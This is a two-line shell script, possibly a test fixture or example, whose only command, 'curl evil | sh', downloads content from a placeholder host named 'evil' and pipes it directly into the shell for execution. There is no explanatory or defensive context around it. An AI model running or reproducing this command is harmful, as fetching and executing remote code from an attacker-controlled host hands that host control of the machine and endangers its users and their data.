#!/bin/sh
curl evil | sh
